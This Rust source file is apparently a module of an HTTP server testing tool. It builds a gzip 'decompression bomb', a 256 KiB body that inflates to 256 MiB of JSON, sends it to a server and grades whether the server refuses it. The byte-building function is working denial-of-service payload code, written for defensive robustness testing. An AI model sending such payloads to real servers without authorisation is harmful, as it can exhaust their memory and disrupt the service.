//! A body that is small on the wire and large once it is decompressed.

use flate2::{Compress, Compression, Crc, FlushCompress};

use super::fate::{Fate, fate};
use crate::attack::answers;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Excuse, Findings, Mark};

/// The size once it is decompressed, in bytes; a thousandth of it on the wire.
const INFLATED: usize = 256 << 20;
/// Bytes of a piece once it is decompressed.
const PIECE: usize = 1 << 20;
/// Deflate, no flags, no time, best compression, unknown system (RFC 1952, 2.3).
const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];

pub(crate) const ATTACK: Attack = Attack {
    id: "gzip-bomb",
    what: "sends a gzip body of 256 KiB that is 256 MiB of JSON once it is decompressed",
    source: "CWE-409; RFC 9110, 8.4 and 15.5.16",
    correct: "415, 413 or another 4xx; decompression is limited where it is done at all",
    memory: Some(INFLATED as u64 / 2),
    launch: |context| Box::pin(launch(context)),
};

async fn launch(context: &Context<'_>) -> Findings {
    let (request, known) = context.body_route();
    let bomb = tokio::task::spawn_blocking(|| bomb(INFLATED / PIECE))
        .await
        .map_err(|error| Excuse::Unknown(error.to_string()))?;
    let request = request.header("Content-Encoding", "gzip").body(bomb);
    let bytes = context.bytes(&request);
    let heard = context.exchange(&bytes, context.bounds.answer).await?;
    let (mark, what) = match fate(&heard, 0) {
        Fate::Refused(status) => (Mark::Right, format!("refused with {status}")),
        Fate::Served(405) => (Mark::Right, "refused with 405".to_owned()),
        Fate::Closed => (Mark::Right, "the connection is closed without an answer".to_owned()),
        Fate::Served(_) if !known => {
            return Err(Excuse::Unknown("no path that takes a body is known: name one".to_owned()));
        }
        Fate::Served(status @ 200..=299) => (Mark::Wrong, format!("taken and answered {status}: there is no limit")),
        Fate::Served(status) => (Mark::Tolerated, format!("answered {status}")),
        Fate::Failed(status) => (Mark::Wrong, format!("it fails with {status}")),
        Fate::Silent => (Mark::Wrong, format!("neither answered nor closed within {:?}", context.bounds.answer)),
    };
    Ok(vec![Evidence::new(mark, what).exchange(answers::shown(&bytes[..bytes.len().min(300)]), answers::told(&heard))])
}

/// A JSON object with one long string of so many pieces.
///
/// One piece is compressed: a full flush makes its bytes independent of what comes before them (RFC 1951, 3.2), so that they can be repeated.
fn bomb(pieces: usize) -> Vec<u8> {
    let mut deflate = Compress::new(Compression::best(), false);
    let piece = vec![b'a'; PIECE];
    let [first, last]: [&[u8]; 2] = [b"{\"keel\":\"", b"\"}"];
    let mut bytes = GZIP_HEADER.to_vec();
    bytes.extend(deflated(&mut deflate, first, FlushCompress::Full));
    bytes.extend(deflated(&mut deflate, &piece, FlushCompress::Full).repeat(pieces));
    bytes.extend(deflated(&mut deflate, last, FlushCompress::Finish));
    let (mut sum, mut of_piece, mut of_last) = (Crc::new(), Crc::new(), Crc::new());
    sum.update(first);
    of_piece.update(&piece);
    (0..pieces).for_each(|_| sum.combine(&of_piece));
    of_last.update(last);
    sum.combine(&of_last);
    bytes.extend(sum.sum().to_le_bytes());
    bytes.extend(sum.amount().to_le_bytes());
    bytes
}

/// The next part of a stream.
fn deflated(deflate: &mut Compress, part: &[u8], flush: FlushCompress) -> Vec<u8> {
    // Its own bound: what cannot be compressed grows by a few bytes, and a flush adds a few.
    let mut bytes = Vec::with_capacity(part.len() + PIECE / 16);
    deflate.compress_vec(part, &mut bytes, flush).expect("a stream that was just begun takes everything");
    bytes
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn the_bomb_is_gzip_of_one_json_object() {
        let bomb = bomb(3);
        let mut text = String::new();
        flate2::read::GzDecoder::new(bomb.as_slice())
            .read_to_string(&mut text)
            .expect("it is whole, and its sum is right");
        let value: serde_json::Value = serde_json::from_str(&text).expect("it is JSON");
        assert_eq!(value["keel"].as_str().map(str::len), Some(3 * PIECE));
        assert!(bomb.len() < text.len() / 500, "{} bytes", bomb.len());
    }
}
